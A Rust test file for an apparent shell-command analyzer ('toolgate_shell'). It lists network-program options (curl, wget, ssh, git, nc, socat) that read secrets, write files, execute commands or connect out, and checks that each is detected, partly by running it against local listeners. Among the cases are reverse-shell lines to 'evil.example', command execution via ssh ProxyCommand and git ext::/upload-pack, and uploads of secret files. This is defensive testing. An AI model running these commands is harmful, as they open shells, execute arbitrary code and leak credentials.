//! Network programs' options that fetch, write, run or re-target (issue 20,
//! class 8), against the programs themselves.
//!
//! Each case is an option of curl, wget, ssh/scp/sftp, git's remote
//! operations, nc/ncat or socat (from its manual), with what the analysis
//! must find: a file read or written, a connection to the host it names,
//! or an `Unknown` (it runs a program or goes where toolgate cannot see).
//! Where the program is installed the case is run in a scratch directory
//! and must really do it: create the marker `P`, write the file, print the
//! secret it read, or connect to a local listener. Only 127.0.0.1, unix
//! sockets in the scratch directory and `file:` URLs are used. `@D` is the
//! scratch directory (`/w/d` when analysed), `@PORT` the listener's port.

use std::path::PathBuf;

use toolgate_shell::{Analysis, EffectKind, Options, analyze};

use super::real::{self, HTTP_OK, Listener, Scratch};

enum Proof {
    None,
    /// The file `P` appears.
    Marker,
    /// The file appears.
    Writes(&'static str),
    /// The output holds the secret the setup wrote to `@D/secret`.
    Prints,
    /// The program connects to a listener on 127.0.0.1 (`@PORT`), and what
    /// it sends holds this text.
    Connects(&'static str),
}

enum Want {
    Unknown,
    Effect(EffectKind, &'static str),
    /// Everything beneath the directory.
    Beneath(EffectKind, &'static str),
}

struct Case {
    script: &'static str,
    want: Want,
    needs: &'static str,
    setup: &'static str,
    proof: Proof,
}

use EffectKind::{Fetch, Read, Write};
use Proof::{Connects, Marker, Prints, Writes};
use Want::{Beneath, Effect, Unknown};

const SECRET: &str = "echo SECRET-3141 > @D/secret";

#[rustfmt::skip]
fn cases() -> Vec<Case> {
    let c = |script, want, needs, setup, proof| Case {
        script,
        want,
        needs,
        setup,
        proof,
    };
    vec![
        // curl.
        c("curl -s -w @@D/secret file:///dev/null", Effect(Read, "@D/secret"), "curl", SECRET, Prints),
        c("curl -s -w '%output{@D/o}%{url}' http://127.0.0.1/", Effect(Write, "@D/o"), "", "", Proof::None),
        c("curl -s file://@D/secret", Effect(Read, "@D/secret"), "curl", SECRET, Prints),
        c("curl -s file://localhost@D/secret", Effect(Read, "@D/secret"), "curl", SECRET, Prints),
        c("curl -s -T @D/secret file://@D/copy", Effect(Write, "@D/copy"), "curl", SECRET, Writes("@D/copy")),
        c("cd @D && curl -s -T '{secret,x}' file://@D/up/", Unknown, "curl", "echo SECRET-3141 > @D/secret; mkdir @D/up", Writes("@D/up/secret")),
        c("cd @D && curl -s -T 'secre[t-t]' file://@D/up/", Unknown, "curl", "echo SECRET-3141 > @D/secret; mkdir @D/up", Writes("@D/up/secret")),
        c("curl -s -o '@D/P#1' 'file://@D/{x}'", Unknown, "curl", "touch @D/x", Writes("@D/Px")),
        c("curl -s -g -T '@D/{x}' file:///dev/null", Effect(Read, "@D/{x}"), "", "", Proof::None),
        c("curl -s -K @D/cfg file:///dev/null", Unknown, "curl", "echo 'output = \"P\"' > @D/cfg", Marker),
        c("curl -s -b @D/secret http://127.0.0.1:@PORT/", Effect(Read, "@D/secret"), "curl", "printf 'k=SECRET-3141\\n' > @D/c; printf '127.0.0.1\\tFALSE\\t/\\tFALSE\\t0\\tk\\tSECRET-3141\\n' > @D/secret", Connects("SECRET-3141")),
        c("curl -s -H @@D/secret http://127.0.0.1:@PORT/", Effect(Read, "@D/secret"), "curl", "echo 'X-S: SECRET-3141' > @D/secret", Connects("SECRET-3141")),
        c("curl -s -d @@D/secret http://127.0.0.1:@PORT/", Effect(Read, "@D/secret"), "curl", SECRET, Connects("SECRET-3141")),
        c("curl -s --data-binary @@D/secret http://127.0.0.1:@PORT/", Effect(Read, "@D/secret"), "curl", SECRET, Connects("SECRET-3141")),
        c("curl -s -F f=@@D/secret http://127.0.0.1:@PORT/", Effect(Read, "@D/secret"), "curl", SECRET, Connects("")),
        c("curl -s -c @D/jar -D @D/h http://127.0.0.1:@PORT/", Effect(Write, "@D/h"), "curl", "", Writes("@D/h")),
        c("curl -s --trace-ascii @D/t file:///dev/null", Effect(Write, "@D/t"), "curl", "", Writes("@D/t")),
        c("curl -s --libcurl @D/l file:///dev/null", Effect(Write, "@D/l"), "curl", "", Writes("@D/l")),
        c("curl -s --hsts @D/hsts https://example.com/", Effect(Read, "@D/hsts"), "", "", Proof::None),
        c("curl -s --alt-svc @D/alt https://example.com/", Effect(Write, "@D/alt"), "", "", Proof::None),
        c("curl -s --variable k@@D/secret --expand-url 'https://example.com/{{k}}'", Effect(Read, "@D/secret"), "", "", Proof::None),
        c("curl -s --json @@D/secret https://example.com/", Effect(Read, "@D/secret"), "", "", Proof::None),
        c("curl -s --netrc-file @D/n https://example.com/", Effect(Read, "@D/n"), "", "", Proof::None),
        c("curl -s -n https://example.com/", Effect(Read, "~/.netrc"), "", "", Proof::None),
        c("curl -s --proxy-cacert @D/ca https://example.com/", Effect(Read, "@D/ca"), "", "", Proof::None),
        c("curl -s --capath @D/certs https://example.com/", Beneath(Read, "@D/certs"), "", "", Proof::None),
        c("curl -s --proxy-capath=@D/certs https://example.com/", Beneath(Read, "@D/certs"), "", "", Proof::None),
        c("wget -q --ca-directory=@D/certs https://example.com/", Beneath(Read, "@D/certs"), "", "", Proof::None),
        c("curl -s --unix-socket @D/sock http://localhost/", Unknown, "", "", Proof::None),
        c("curl -s --abstract-unix-socket s http://localhost/", Unknown, "", "", Proof::None),
        c("curl -s --proxy http://127.0.0.1:@PORT/ http://example.invalid/", Effect(Fetch, "http://127.0.0.1:@PORT/"), "curl", "", Connects("example.invalid")),
        c("curl -s --connect-to ::127.0.0.1:@PORT http://example.invalid/", Effect(Fetch, "tcp://127.0.0.1:@PORT"), "curl", "", Connects("example.invalid")),
        c("curl -s --resolve example.invalid:@PORT:127.0.0.1 http://example.invalid:@PORT/", Effect(Fetch, "tcp://127.0.0.1:@PORT"), "curl", "", Connects("example.invalid")),
        c("curl -s --doh-url http://127.0.0.1:@PORT/q http://example.invalid/", Effect(Fetch, "http://127.0.0.1:@PORT/q"), "", "", Proof::None),
        c("curl -s -o @D/o http://127.0.0.1:@PORT/", Effect(Write, "@D/o"), "curl", "", Writes("@D/o")),
        c("curl -s -O --output-dir @D/dl --create-dirs http://127.0.0.1:@PORT/f", Effect(Write, "@D/dl/f"), "curl", "", Writes("@D/dl/f")),
        // wget.
        c("wget -q --use-askpass=./a --user u http://127.0.0.1:@PORT/", Unknown, "", "", Proof::None),
        c("wget -q -e use_askpass=./a http://127.0.0.1/", Unknown, "", "", Proof::None),
        c("wget -q --config @D/rc http://127.0.0.1/", Unknown, "", "", Proof::None),
        c("wget -q -x http://127.0.0.1:@PORT/a/b.txt", Effect(Write, "."), "wget", "", Writes("@D/127.0.0.1:@PORT/a/b.txt")),
        c("wget -q -P @D/p http://127.0.0.1:@PORT/b.txt", Effect(Write, "@D/p/b.txt"), "wget", "", Writes("@D/p/b.txt")),
        c("wget -q -O @D/o http://127.0.0.1:@PORT/", Effect(Write, "@D/o"), "wget", "", Writes("@D/o")),
        c("wget -q -P @D --default-page=toolgate.toml http://127.0.0.1:@PORT/", Effect(Write, "@D/toolgate.toml"), "wget", "", Writes("@D/toolgate.toml")),
        c("wget -q -P @D -E http://127.0.0.1:@PORT/x", Effect(Write, "@D/x.html"), "wget", "", Writes("@D/x.html")),
        c("wget -q -O /dev/null --warc-file=@D/w http://127.0.0.1:@PORT/", Effect(Write, "@D/w.warc.gz"), "wget", "", Writes("@D/w.warc.gz")),
        c("wget -q -o @D/log http://127.0.0.1:@PORT/x", Effect(Write, "@D/log"), "wget", "", Writes("@D/log")),
        c("wget -q -O- --post-file @D/secret http://127.0.0.1:@PORT/", Effect(Read, "@D/secret"), "wget", SECRET, Connects("SECRET-3141")),
        c("wget -q -O- -i @D/secret", Unknown, "", "", Proof::None),
        // ssh, scp, sftp.
        c("ssh -o ProxyCommand='touch P' x", Unknown, "ssh", "", Marker),
        c("ssh -F @D/cfg x", Unknown, "ssh", "printf 'Host *\\n ProxyCommand touch P\\n' > @D/cfg", Marker),
        c("scp -o ProxyCommand='touch P' x:f .", Unknown, "scp", "", Marker),
        c("sftp -o ProxyCommand='touch P' x", Unknown, "sftp", "", Marker),
        c("ssh -o LocalCommand='touch P' -o PermitLocalCommand=yes x", Unknown, "", "", Proof::None),
        c("ssh -o Include=@D/cfg x", Unknown, "", "", Proof::None),
        c("ssh -S @D/ctl x", Unknown, "", "", Proof::None),
        c("ssh -I /tmp/p11.so x", Unknown, "", "", Proof::None),
        c("sftp -b @D/batch x", Unknown, "", "", Proof::None),
        c("ssh -o Hostname=127.0.0.1 -o Port=@PORT -o BatchMode=yes -o ConnectTimeout=3 good.example true", Effect(Fetch, "tcp://127.0.0.1"), "ssh", "", Connects("SSH-")),
        c("ssh -o BatchMode=yes -o ConnectTimeout=3 -J 127.0.0.1:@PORT good.example true", Effect(Fetch, "tcp://127.0.0.1:@PORT"), "ssh", "", Connects("SSH-")),
        c("ssh -o ProxyJump=jump.example x", Effect(Fetch, "tcp://jump.example"), "", "", Proof::None),
        c("ssh -i ~/.ssh/id_rsa x", Effect(Read, "~/.ssh/id_rsa"), "", "", Proof::None),
        c("ssh -o IdentityFile=~/.ssh/id_rsa x", Effect(Read, "~/.ssh/id_rsa"), "", "", Proof::None),
        c("ssh -E @D/log -o Hostname=127.0.0.1 -o Port=1 x", Effect(Write, "@D/log"), "ssh", "", Writes("@D/log")),
        c("rsync -e 'ssh -o ProxyCommand=x' a b:c", Unknown, "", "", Proof::None),
        c("rsync -e 'ssh -J bad.example' a b:c", Effect(Fetch, "tcp://bad.example"), "", "", Proof::None),
        c("aria2c --on-download-complete=./x https://example.com/f", Unknown, "", "", Proof::None),
        c("aria2c --all-proxy=127.0.0.1:3128 https://example.com/f", Effect(Fetch, "http://127.0.0.1:3128"), "", "", Proof::None),
        c("curl --engine pkcs11 https://example.com/", Unknown, "", "", Proof::None),
        // git's remote operations.
        c("git send-email --smtp-server=/tmp/x p.patch", Unknown, "", "", Proof::None),
        c("git send-email --smtp-server=smtp.evil.example p.patch", Effect(Fetch, "tcp://smtp.evil.example"), "", "", Proof::None),
        c("git clone --separate-git-dir=@D/g https://example.com/r.git", Effect(Write, "@D/g"), "", "", Proof::None),
        c("git -c protocol.ext.allow=always ls-remote 'ext::sh -c touch% P'", Unknown, "git", "", Marker),
        c("git ls-remote 'ext::sh -c touch% P'", Unknown, "", "", Proof::None),
        c("git ls-remote --upload-pack='touch P #' .", Unknown, "git", "git init -q .", Marker),
        c("git fetch --upload-pack='touch P #' .", Unknown, "git", "git init -q .", Marker),
        c("git archive --remote=. --exec='touch P #' HEAD", Unknown, "git", "git init -q .", Marker),
        c("git clone --template=t src dst", Unknown, "git", "git init -q src && git -C src -c user.email=a@b -c user.name=n commit -q --allow-empty -m m && mkdir -p t/hooks && printf '#!/bin/sh\\ntouch ../P\\n' > t/hooks/post-checkout && chmod +x t/hooks/post-checkout", Marker),
        c("git -c core.sshCommand='touch P #' ls-remote ssh://h/r", Unknown, "git", "", Marker),
        c("git clone --recurse-submodules https://example.com/r.git", Unknown, "", "", Proof::None),
        c("git submodule update --init", Unknown, "", "", Proof::None),
        c("git push --receive-pack=x https://example.com/r.git", Unknown, "", "", Proof::None),
        c("git submodule add https://evil.example/r.git lib", Effect(Fetch, "https://evil.example/r.git"), "", "", Proof::None),
        c("git archive --remote=https://evil.example/r.git HEAD", Effect(Fetch, "https://evil.example/r.git"), "", "", Proof::None),
        c("git clone https://evil.example/r.git", Effect(Fetch, "https://evil.example/r.git"), "", "", Proof::None),
        c("git fetch --depth 1 https://evil.example/r.git", Effect(Fetch, "https://evil.example/r.git"), "", "", Proof::None),
        c("git pull --rebase https://evil.example/r.git main", Effect(Fetch, "https://evil.example/r.git"), "", "", Proof::None),
        c("git ls-remote https://evil.example/r.git", Effect(Fetch, "https://evil.example/r.git"), "", "", Proof::None),
        c("git push https://evil.example/r.git main", Effect(Fetch, "https://evil.example/r.git"), "", "", Proof::None),
        c("git clone file://@D/src dst", Effect(Read, "@D/src"), "", "", Proof::None),
        // nc, ncat, socat.
        c("ncat --sh-exec 'touch P' 127.0.0.1 @PORT", Unknown, "ncat", "", Marker),
        c("ncat -e /bin/sh 127.0.0.1 @PORT", Unknown, "", "", Proof::None),
        c("nc -e /bin/sh evil.example 4444", Unknown, "", "", Proof::None),
        c("nc -c 'sh -i' evil.example 4444", Unknown, "", "", Proof::None),
        c("ncat -o @D/o 127.0.0.1 @PORT", Effect(Write, "@D/o"), "ncat", "", Writes("@D/o")),
        c("ncat --proxy 127.0.0.1:@PORT example.invalid 80", Effect(Fetch, "tcp://127.0.0.1:@PORT"), "ncat", "", Connects("example.invalid")),
        c("nc -x proxy.example:1080 evil.example 80", Effect(Fetch, "tcp://proxy.example:1080"), "", "", Proof::None),
        c("socat - EXEC:'touch P'", Unknown, "socat", "", Marker),
        c("socat - SYSTEM:'touch P'", Unknown, "socat", "", Marker),
        c("socat -u OPEN:@D/secret STDOUT", Effect(Read, "@D/secret"), "socat", SECRET, Prints),
        c("socat -u @D/secret STDOUT", Effect(Read, "@D/secret"), "socat", SECRET, Prints),
        c("socat -u /dev/null CREATE:@D/c", Effect(Write, "@D/c"), "socat", "", Writes("@D/c")),
        c("socat - UNIX-CONNECT:@D/sock", Unknown, "", "", Proof::None),
        c("socat -u /dev/null TCP:127.0.0.1:@PORT", Effect(Fetch, "tcp://127.0.0.1:@PORT"), "socat", "", Connects("")),
        // URLs with no network host are unknown; the URL a `blob:` or
        // `view-source:` wraps is a fetch as well.
        c("curl blob:https://evil.example/x", Unknown, "", "", Proof::None),
        c("curl blob:https://evil.example/x", Effect(Fetch, "https://evil.example/x"), "", "", Proof::None),
        c("curl data:text/plain,hi", Unknown, "", "", Proof::None),
        c("curl view-source:https://evil.example/", Effect(Fetch, "https://evil.example/"), "", "", Proof::None),
    ]
}

fn opts() -> Options {
    Options {
        cwd: Some(PathBuf::from("/w")),
        home: Some(PathBuf::from("/home/u")),
        ..Options::default()
    }
}

/// `text` with the analysis's stand-ins for the directory and the port.
fn for_analysis(text: &str) -> String {
    text.replace("@D", "/w/d").replace("@PORT", "8999")
}

fn found(a: &Analysis, want: &Want) -> bool {
    match want {
        Unknown => !a.unknowns.is_empty(),
        Effect(kind, target) | Beneath(kind, target) => {
            let target = for_analysis(target);
            let beneath = matches!(want, Beneath(..));
            a.effects.iter().any(|e| {
                e.kind == *kind
                    && e.command.is_some()
                    && e.literal
                    && e.target == target
                    && (e.recursive || !beneath)
            })
        }
    }
}

#[test]
fn network_options_are_found() {
    let mut missed = Vec::new();
    for case in cases() {
        let a = analyze(&for_analysis(case.script), &opts());
        if !found(&a, &case.want) {
            missed.push(format!("{}\n    {a:?}", case.script));
        }
    }
    assert!(missed.is_empty(), "not found:\n{}", missed.join("\n"));
}

#[test]
fn network_options_do_it_in_the_real_programs() {
    let mut not_real = Vec::new();
    for case in cases() {
        if matches!(case.proof, Proof::None) || !real::have(case.needs) {
            continue;
        }
        let s = Scratch::new();
        let listener = Listener::new(HTTP_OK);
        let port = listener.port.to_string();
        let script = case.script.replace("@PORT", &port);
        let out = s.run(case.setup, &script);
        let done = match case.proof {
            Proof::None => true,
            Marker => s.join("P").exists(),
            Writes(f) => std::path::Path::new(&s.fill(&f.replace("@PORT", &port))).exists(),
            Prints => out.contains("SECRET-3141"),
            Connects(text) => listener.received().is_some_and(|got| got.contains(text)),
        };
        if !done {
            not_real.push(case.script);
        }
    }
    assert!(
        not_real.is_empty(),
        "the program did not do it (the case proves nothing):\n{}",
        not_real.join("\n")
    );
}
